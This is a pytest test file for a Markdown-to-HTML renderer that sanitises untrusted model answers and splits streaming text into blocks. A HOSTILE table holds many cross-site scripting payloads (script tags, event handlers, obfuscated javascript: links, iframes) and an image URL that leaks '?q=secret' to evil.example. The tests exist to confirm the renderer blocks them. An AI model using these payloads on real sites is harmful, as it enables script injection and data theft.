"""Untrusted Markdown becomes safe HTML; a growing answer splits into frozen blocks."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orjupyter.render.markdown import (
    BlockSplitter,
    answer_html,
    render_markdown,
)
from orjupyter.render.parser import MAX_HIGHLIGHT_CHARS
from orjupyter.render.stylesheet import answer_css, panel_css, style_tag

# What the output may contain, written out here rather than imported from the module.
SAFE_ATTRIBUTES: dict[str, set[str]] = {
    **{tag: set() for tag in ("p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "hr")},
    **{tag: set() for tag in ("br", "ul", "li", "em", "strong", "del", "s")},
    **{tag: set() for tag in ("table", "thead", "tbody", "tr")},
    "ol": {"start"},
    "pre": {"class"},
    "code": {"class"},
    "span": {"class"},
    "th": {"align"},
    "td": {"align"},
    "a": {"href", "title", "target", "rel"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}


class Element:
    def __init__(self, tag: str, attrs: dict[str, str | None]) -> None:
        self.tag = tag
        self.attrs = attrs

    def __repr__(self) -> str:
        return f"<{self.tag} {self.attrs}>"


class Parsed(HTMLParser):
    """The elements, text and anything unexpected (comments, declarations) in some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[str] = []
        self.oddities: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append(Element(tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        self.oddities.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.oddities.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.oddities.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.oddities.append(f"declaration {data!r}")

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def tags(self, tag: str) -> list[Element]:
        return [element for element in self.elements if element.tag == tag]


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: it ignores control characters and whitespace."""
    compact = re.sub(r"[\x00-\x20\x7f]", "", url)
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", compact)
    return match.group(1).lower() if match else None


def assert_safe(html: str) -> Parsed:
    parsed = Parsed(html)
    assert parsed.oddities == []
    for element in parsed.elements:
        assert element.tag in SAFE_ATTRIBUTES, element
        assert set(element.attrs) <= SAFE_ATTRIBUTES[element.tag], element
        if "href" in element.attrs:
            assert url_scheme(element.attrs["href"] or "") in SAFE_SCHEMES, element
        if element.tag == "a":
            assert element.attrs["target"] == "_blank"
            assert {"noopener", "noreferrer", "nofollow"} <= set(element.attrs["rel"].split())
        if element.tag == "span":
            assert re.fullmatch(r"[a-z0-9]{1,3}( [a-z0-9]{1,3})*", element.attrs["class"])
        if element.tag in ("pre", "code") and "class" in element.attrs:
            assert re.fullmatch(r"orj-code|language-[a-z0-9_+#.-]+", element.attrs["class"])
    return parsed


HOSTILE = {
    "img onerror": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "markdown javascript link": "[x](javascript:alert(1))",
    "mixed case scheme": "[x](JaVaScRiPt:alert(1))",
    "angle bracket destination": "[x](<javascript:alert(1)>)",
    "raw javascript anchor": '<a href="javascript:alert(1)">x</a>',
    "event handler": '<b onmouseover="alert(1)">x</b> <p onclick=alert(1)>y</p>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "style tag": "<style>body{display:none}</style>",
    "overlay div": '<div style="position:fixed;inset:0">click me</div>',
    "image exfiltration": "![t](https://evil.example/?q=secret)",
    "javascript image": "![t](javascript:alert(1))",
    "svg image": "![t](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "svg onload": "<svg onload=alert(1)><circle r=9 /></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "form": '<form action="https://evil.example/"><input name=q><button>go</button></form>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "entity scheme": "[x](&#106;avascript:alert(1))",
    "hex entity scheme": "[x](&#x6A;&#x61;vascript&#x3A;alert(1))",
    "tab entity scheme": "[x](java&#x09;script:alert(1))",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "javascript autolink": "<javascript:alert(1)>",
    "data autolink": "<data:text/html,<script>alert(1)</script>>",
    "reference javascript": "[x][r]\n\n[r]: javascript:alert(1)",
    "title breakout": '[x](https://ok.example "a\\" onmouseover=alert(1) b=\\"")',
    "fence info breakout": '```"><script>alert(1)</script>\ncode\n```',
    "fence info class": "```python jp-Dialog onload=alert(1)\nx = 1\n```",
    "comment": "<!-- <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "nested anchor": '[<a href="javascript:alert(1)">x</a>](https://ok.example)',
}
CONTEXTS = {
    "alone": "{}",
    "list item": "- {}",
    "quote": "> {}",
    "heading": "## {}",
    "emphasis": "*{}*",
    "table cell": "| a | b |\n|---|:-:|\n| {} | c |",
}


@pytest.mark.parametrize("context", CONTEXTS.values(), ids=CONTEXTS.keys())
@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_executable_survives(hostile, context):
    text = hostile if context == "{}" else context.format(hostile.replace("\n", " "))
    html = render_markdown(text)
    assert_safe(html)
    assert_safe(answer_html(text).removeprefix('<div class="orj-answer">').removesuffix("</div>"))


MARKDOWN_BITS = ["\n", "\n\n", "- ", "> ", "| ", "```", "`", "*", "[", "](", ")", "![", "<", ">"]
MARKDOWN_BITS += ['"', "&#", "javascript:", "https://x.example/", " ", "#", "    ", "---"]


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*HOSTILE.values(), *MARKDOWN_BITS]),
        max_size=20,
    ).map("".join)
)
def test_nothing_executable_survives_any_mix(text):
    assert_safe(render_markdown(text))


def test_raw_html_is_shown_as_text():
    parsed = assert_safe(render_markdown("Hi <script>alert(1)</script> <b>bold</b>"))
    assert "<script>alert(1)</script>" in parsed.text
    assert "<b>bold</b>" in parsed.text
    assert parsed.tags("b") == []


def test_an_image_becomes_a_link_that_loads_nothing():
    parsed = assert_safe(render_markdown("See ![the *chart*](https://evil.example/?q=secret)"))
    [link] = parsed.tags("a")
    assert link.attrs["href"] == "https://evil.example/?q=secret"
    assert "\N{FRAME WITH PICTURE} the chart" in parsed.text
    assert "src" not in render_markdown("![t](https://evil.example/x.png)")


@pytest.mark.parametrize(
    "source", ["![t](data:image/png;base64,iVBORw0KGgo=)", "![t](chart.png)", "![t](ftp://x/y)"]
)
def test_an_image_without_a_web_url_is_only_its_alt_text(source):
    parsed = assert_safe(render_markdown(source))
    assert parsed.tags("a") == []
    assert parsed.text.strip() == "[image: t]"


def test_an_image_inside_a_link_does_not_nest_links():
    parsed = assert_safe(render_markdown("[![logo](https://a.example/l.png)](https://b.example/)"))
    assert [a.attrs["href"] for a in parsed.tags("a")] == ["https://b.example/"]
    assert "\N{FRAME WITH PICTURE} logo" in parsed.text


def test_ordinary_markdown_renders():
    text = (
        "# Title\n\n## Part\n\nSome *em*, **strong**, ~~gone~~ and `code`.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n---\n\n"
        '[docs](https://example.com/docs "Docs") <https://example.com/auto> '
        "[mail](mailto:a@example.com)\n"
    )
    parsed = assert_safe(render_markdown(text))
    tags = [element.tag for element in parsed.elements]
    for tag in ("h1", "h2", "em", "strong", "s", "code", "ul", "ol", "li", "blockquote", "hr"):
        assert tag in tags
    assert parsed.tags("ol")[0].attrs == {"start": "3"}
    hrefs = [a.attrs["href"] for a in parsed.tags("a")]
    assert hrefs == ["https://example.com/docs", "https://example.com/auto", "mailto:a@example.com"]
    assert parsed.tags("a")[0].attrs["title"] == "Docs"


def test_a_relative_link_keeps_its_text_but_not_its_target():
    parsed = assert_safe(render_markdown("[files](../../api/contents) [top](#top)"))
    assert [a.attrs.get("href") for a in parsed.tags("a")] == [None, None]
    assert parsed.text.strip() == "files top"


def test_code_fences_are_highlighted_with_classes_not_styles():
    html = render_markdown("```python\nimport os\nprint('<b>')\n```\n")
    parsed = assert_safe(html)
    [pre] = parsed.tags("pre")
    [code] = parsed.tags("code")
    assert pre.attrs == {"class": "orj-code"}
    assert code.attrs == {"class": "language-python"}
    classes = {span.attrs["class"] for span in parsed.tags("span")}
    assert {"kn", "nn", "nb", "s1"} <= classes
    assert "style" not in html
    assert parsed.text.rstrip() == "import os\nprint('<b>')"


@pytest.mark.parametrize("info", ["", "no-such-language", "Nope with words"])
def test_code_in_an_unknown_language_is_plain_escaped_text(info):
    parsed = assert_safe(render_markdown(f"```{info}\n<b>x</b> & y\n```"))
    assert parsed.tags("span") == []
    assert parsed.text.rstrip() == "<b>x</b> & y"


def test_the_info_string_only_names_a_language():
    parsed = assert_safe(render_markdown("```PY jp-Dialog onload=x\nx = 1\n```"))
    assert parsed.tags("code")[0].attrs == {"class": "language-py"}
    parsed = assert_safe(render_markdown('```"><script>\nx\n```'))
    assert parsed.tags("code")[0].attrs == {}


def test_indented_code_is_a_code_block():
    parsed = assert_safe(render_markdown("    x = <y>\n"))
    assert parsed.tags("pre")[0].attrs == {"class": "orj-code"}
    assert parsed.text.rstrip() == "x = <y>"


def test_a_huge_code_block_is_escaped_without_highlighting():
    code = "x = 1\n" * (MAX_HIGHLIGHT_CHARS // 6 + 1)
    parsed = assert_safe(render_markdown(f"```python\n{code}```"))
    assert parsed.tags("span") == []
    assert parsed.text.rstrip() == code.rstrip()


def test_tables_align_with_the_align_attribute():
    parsed = assert_safe(render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n"))
    assert [th.attrs.get("align") for th in parsed.tags("th")] == ["left", "center", "right"]
    assert [td.attrs.get("align") for td in parsed.tags("td")] == ["left", "center", "right"]
    assert len(parsed.tags("table")) == len(parsed.tags("thead")) == len(parsed.tags("tbody")) == 1


def test_rendering_is_deterministic_across_processes():
    text = (
        "# T\n\n[a](https://a.example) ![i](https://b.example/i.png)\n\n```py\nx = {1: 'a'}\n```\n"
    )
    script = (
        "import sys; from orjupyter.render.markdown import render_markdown as r; "
        "print(r(sys.argv[1]))"
    )
    outputs = {
        subprocess.run(
            [sys.executable, "-c", script, text],
            check=True,
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONHASHSEED": seed},
        ).stdout
        for seed in ("1", "2")
    }
    assert outputs == {render_markdown(text) + "\n"}
    assert render_markdown(text) == render_markdown(text)


def test_answer_html_wraps_the_fragment_and_style_tag_carries_the_css():
    assert answer_html("*hi*") == f'<div class="orj-answer">{render_markdown("*hi*")}</div>'
    assert style_tag() == f"<style>{answer_css()}</style>"


def selectors(css: str) -> list[str]:
    """Each selector of each rule, with `@media (…) {` openers dropped."""
    found = []
    for group in re.findall(r"([^{}]+)\{[^{}]*\}", re.sub(r"@media[^{]*\{", "", css)):
        depth, current = 0, ""
        for char in group:
            depth += (char == "(") - (char == ")")
            if char == "," and depth == 0:
                found.append(current.strip())
                current = ""
            else:
                current += char
        found.append(current.strip())
    return found


@pytest.mark.parametrize("stylesheet", [answer_css, panel_css])
def test_the_stylesheet_is_scoped_and_fetches_nothing(stylesheet):
    css = stylesheet().lower()
    assert "url(" not in css
    assert "@import" not in css
    assert "</" not in css
    assert "@media (prefers-color-scheme: dark)" in css
    assert '[data-jp-theme-light="false"] .orj-answer' in css
    assert len(selectors(css)) > 20
    for selector in selectors(css):  # only orjupyter's own elements are ever styled
        assert any(
            f".orj-{scope}" in selector
            for scope in ("answer", "output", "panel", "status", "error", "question", "actions")
        ), selector


# --- BlockSplitter ---------------------------------------------------------------------------

ANSWER = (
    "# Title\nIntro para\ncontinues.\n\n"
    "- a\n- b\n\n"
    "1. one\n\n"
    "2\n\n\n"
    "```py\nx = 1\n\ny = 2\n```\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "> q\nlazy\n\n"
    "Setext\n===\n\n"
    "end\n"
)
ANSWER_BLOCKS = [
    "# Title\nIntro para\ncontinues.\n\n",
    "- a\n- b\n\n",
    "1. one\n\n",
    "2\n\n\n",
    "```py\nx = 1\n\ny = 2\n```\n\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n",
    "> q\nlazy\n\n",
    "Setext\n===\n\n",
]


def visible(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r">\s+<", "><", html)).strip()


def feed_all(prefixes: list[str]) -> tuple[list[str], BlockSplitter]:
    """Feed the prefixes in order, checking the invariants after each one."""
    splitter = BlockSplitter()
    blocks: list[str] = []
    for prefix in prefixes:
        blocks += splitter.feed(prefix)
        assert "".join(blocks) + splitter.tail == prefix
        assert splitter.frozen_length == len(prefix) - len(splitter.tail)
    return blocks, splitter


def rendered_in_pieces(blocks: list[str], splitter: BlockSplitter) -> str:
    return "".join(render_markdown(block) for block in [*blocks, splitter.tail])


def test_an_answer_fed_one_character_at_a_time_freezes_each_block_once():
    blocks, splitter = feed_all([ANSWER[:end] for end in range(len(ANSWER) + 1)])
    assert blocks == ANSWER_BLOCKS
    assert splitter.tail == "end\n"
    assert visible(rendered_in_pieces(blocks, splitter)) == visible(render_markdown(ANSWER))


def test_the_whole_answer_at_once_gives_the_same_blocks():
    assert BlockSplitter().feed(ANSWER) == ANSWER_BLOCKS


@pytest.mark.parametrize(
    ("steps", "frozen"),
    [
        # A paragraph could still become a setext heading; the heading then waits for a block.
        (["Title\n", "Title\n===\n", "Title\n===\n\n", "Title\n===\n\nNext\n"], "Title\n===\n\n"),
        # A list continues through blank lines and indented lines.
        (
            [
                "- a\n\n",
                "- a\n\n  more\n",
                "- a\n\n  more\n\n- b\n",
                "- a\n\n  more\n\n- b\n\nend\n",
            ],
            "- a\n\n  more\n\n- b\n\n",
        ),
        # "2" could still become "2. …" and join the list, until its line ends.
        (
            ["1. a\n\n2", "1. a\n\n2. b\n", "1. a\n\n2. b\n\n3.\n", "1. a\n\n2. b\n\n3.\n\nx\n"],
            "1. a\n\n2. b\n\n3.\n\n",
        ),
        # A quote takes lazy lines until a blank line.
        (["> q\n", "> q\nlazy\n", "> q\nlazy\n\n", "> q\nlazy\n\nnext\n"], "> q\nlazy\n\n"),
        # A table takes rows until a blank line.
        (
            ["| a |\n", "| a |\n|---|\n", "| a |\n|---|\n| 1 |\n\n", "| a |\n|---|\n| 1 |\n\nz\n"],
            "| a |\n|---|\n| 1 |\n\n",
        ),
    ],
    ids=["setext", "list", "ordered list", "quote", "table"],
)
def test_a_block_is_frozen_only_once_the_next_one_starts(steps, frozen):
    splitter = BlockSplitter()
    for step in steps[:-1]:
        assert splitter.feed(step) == []
    assert splitter.feed(steps[-1]) == [frozen]


def test_an_open_fence_stays_in_the_tail_however_long():
    code = "".join(f"x{i} = {i}\n\n" for i in range(5000))  # ~50 kB with blank lines
    text = "Intro\n\n```python\n" + code
    splitter = BlockSplitter()
    frozen = [block for end in range(0, len(text) + 1, 997) for block in splitter.feed(text[:end])]
    frozen += splitter.feed(text)
    assert frozen == ["Intro\n\n"]
    assert splitter.tail == "```python\n" + code
    assert splitter.feed(text + "```\n\nAfter\n") == ["```python\n" + code + "```\n\n"]
    assert splitter.tail == "After\n"


def test_windows_and_old_mac_line_breaks():
    blocks, splitter = feed_all(["a\r\n\r\nb\r", "a\r\n\r\nb\r\n", "a\r\n\r\nb\r\n\rc\r"])
    assert blocks == ["a\r\n\r\n", "b\r\n\r"]
    assert splitter.tail == "c\r"


def test_feed_rejects_a_text_that_did_not_grow():
    splitter = BlockSplitter()
    splitter.feed("one\n\ntwo\n")
    with pytest.raises(ValueError, match="only ever grows"):
        splitter.feed("one\n\ntoo\n")


def test_known_limitation_reference_links_resolve_only_within_their_block():
    text = "See [docs][d].\n\nMore.\n\n[d]: https://example.com/\n\nEnd\n"
    blocks, splitter = feed_all([text])
    assert blocks == ["See [docs][d].\n\n", "More.\n\n[d]: https://example.com/\n\n"]
    assert "href" in render_markdown(text)
    assert "href" not in rendered_in_pieces(blocks, splitter)


WORD = st.sampled_from(
    [
        *("alpha", "beta", "*em*", "**strong**", "`code`", "~~gone~~", "[a](https://x.example/)"),
        *("x<y", "a_b", "2)", "-", "=", "|", "#"),
    ]
)
LINE = st.lists(WORD, min_size=1, max_size=4).map(" ".join)
CODE = st.lists(st.sampled_from(["x = 1", "", "    y()", "```", "~~~", "# c", "- a"]), max_size=4)
BLOCK = st.one_of(
    st.builds(lambda line, level: "#" * level + " " + line, LINE, st.integers(1, 6)),
    st.lists(LINE, min_size=1, max_size=3).map("\n".join),
    st.builds(lambda line, rule: f"{line}\n{rule}", LINE, st.sampled_from(["===", "---"])),
    st.builds(
        lambda items, marker, sep: sep.join(f"{marker} {item}" for item in items),
        st.lists(LINE, min_size=1, max_size=3),
        st.sampled_from(["-", "*", "1.", "2)"]),
        st.sampled_from(["\n", "\n\n"]),
    ),
    st.builds(lambda a, b: f"- {a}\n\n  {b}\n  - {a}", LINE, LINE),
    st.builds(
        lambda fence, language, lines: (
            f"{fence}{language}\n" + "".join(f"{x}\n" for x in lines) + fence
        ),
        st.sampled_from(["```", "~~~", "````"]),
        st.sampled_from(["", "python", "nope"]),
        CODE,
    ),
    st.builds(
        lambda lines: "- item\n\n  ```\n" + "".join(f"  {x}\n" for x in lines) + "  ```", CODE
    ),
    st.lists(LINE, min_size=1, max_size=3).map(lambda lines: "\n".join(f"> {x}" for x in lines)),
    st.builds(
        lambda a, b, align: f"| {a} | {b} |\n|{align}|---|\n| 1 | {b} |",
        LINE,
        LINE,
        st.sampled_from(["---", ":--", ":-:", "--:"]),
    ),
    st.just("---"),
    CODE.map(lambda lines: "".join(f"    {x}\n" for x in lines)),
)
SEPARATOR = st.sampled_from(["\n", "\n\n", "\n\n\n", "\n \n", "\r\n\r\n", "\n\t\n"])


@st.composite
def documents(draw) -> str:
    blocks = draw(st.lists(BLOCK, min_size=1, max_size=8))
    text = blocks[0]
    for block in blocks[1:]:
        text += draw(SEPARATOR) + block
    return text + draw(st.sampled_from(["", "\n", "\n\n"]))


@st.composite
def growing_prefixes(draw, text: str) -> list[str]:
    ends = sorted(draw(st.lists(st.integers(0, len(text)), max_size=25)))
    return [text[:end] for end in ends] + [text]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data(), documents())
def test_blocks_plus_tail_render_like_the_whole_text(data, text):
    splitter = BlockSplitter()
    blocks: list[str] = []
    for prefix in data.draw(growing_prefixes(text)):
        blocks += splitter.feed(prefix)
        assert "".join(blocks) + splitter.tail == prefix
        assert visible(rendered_in_pieces(blocks, splitter)) == visible(render_markdown(prefix))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(documents())
def test_a_document_fed_one_character_at_a_time(text):
    blocks, splitter = feed_all([text[:end] for end in range(len(text) + 1)])
    assert visible(rendered_in_pieces(blocks, splitter)) == visible(render_markdown(text))
    assert feed_all([text])[0] == blocks


@settings(max_examples=200, deadline=None)
@given(st.data(), st.text(alphabet="#-*+>`~|=:[]()!_1. \t\r\n\x00a", max_size=120) | st.text())
def test_any_text_in_any_chunks_is_kept_whole(data, text):
    feed_all(data.draw(growing_prefixes(text)))


def test_a_long_paragraph_is_cut_at_sentence_ends_while_streaming():
    sentence = "This sentence has *some* words in it. "
    text = sentence * 200
    splitter = BlockSplitter()
    pieces: list[str] = []
    for end in range(0, len(text) + 1, 97):
        pieces += splitter.feed(text[:end])
        piece = splitter.cut_paragraph(2000)
        if piece:
            pieces.append(piece)
        assert len(splitter.tail) <= 2000 + 97 + len(sentence)
    assert "".join(pieces) + splitter.tail == text[: (len(text) // 97) * 97]
    assert all(p.endswith(". ") and p.count("*") % 2 == 0 for p in pieces)


def test_only_plain_paragraphs_with_closed_markup_are_cut():
    for text in (
        "```\n" + "code line. " * 400,  # an open fence
        "- item " + "words here. " * 400,  # a list item
    ):
        splitter = BlockSplitter()
        splitter.feed(text)
        assert splitter.cut_paragraph(2000) is None
    splitter = BlockSplitter()
    splitter.feed("Start `" + "in code. " * 400)  # an open code span: cut only before it
    assert splitter.cut_paragraph(2000) == "Start "
    assert splitter.cut_paragraph(2000) is None


def test_a_paragraph_without_sentence_ends_is_cut_between_words():
    splitter = BlockSplitter()
    splitter.feed("lorem ipsum " * 500)
    piece = splitter.cut_paragraph(2000)
    assert piece is not None
    assert piece.endswith(" ")
    assert len(splitter.tail) < 20


def _cut_by_definition(tail: str) -> int | None:
    """Where a streaming paragraph may be cut, word by word from its start: after the last
    `.`, `!` or `?` (maybe closed by a quote or bracket) and spaces, else after the last
    spaces, before the last character, where no code span, emphasis or link is open."""
    marks = {"`": 0, "*": 0, "~~": 0, "[": 0, "(": 0, "_": 0}
    best: dict[bool, int] = {}
    position = 0
    for match in re.finditer(r"([.!?][\"')\]]?)?[ \t]+", tail[:-1]):
        segment, position = tail[position : match.end()], match.end()
        for mark in ("`", "*", "~~"):
            marks[mark] += segment.count(mark)
        marks["["] += segment.count("[") - segment.count("]")
        marks["("] += segment.count("(") - segment.count(")")
        marks["_"] += len(re.findall(r"(?<!\w)_|_(?!\w)", segment))
        if all(count % 2 == 0 if mark in "`*~~_" else count == 0 for mark, count in marks.items()):
            best[match.group(1) is not None] = position
    return best.get(True, best.get(False))


_PROSE = ["Some", "words.", "Why?", "Yes!", '"quoted."', "(aside)", "(open", "close)", "[a](b)"]
_PROSE += ["`code`", "`", "*em*", "*", "_u_", "snake_case", "~~s~~", "end.)", "\t", ".", "  ", ""]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PROSE), max_size=80), st.sampled_from(["", " ", "x", "."]))
def test_a_streaming_paragraph_is_cut_at_its_last_closed_sentence_end(words, last):
    text = "Start " + " ".join(words) + last  # one line of prose: one paragraph
    splitter = BlockSplitter()
    splitter.append(text)
    cut = _cut_by_definition(text)
    piece = splitter.cut_paragraph(0)
    assert (piece is None) == (cut is None)
    if cut is not None:
        assert piece == text[:cut]
        assert splitter.tail == text[cut:]
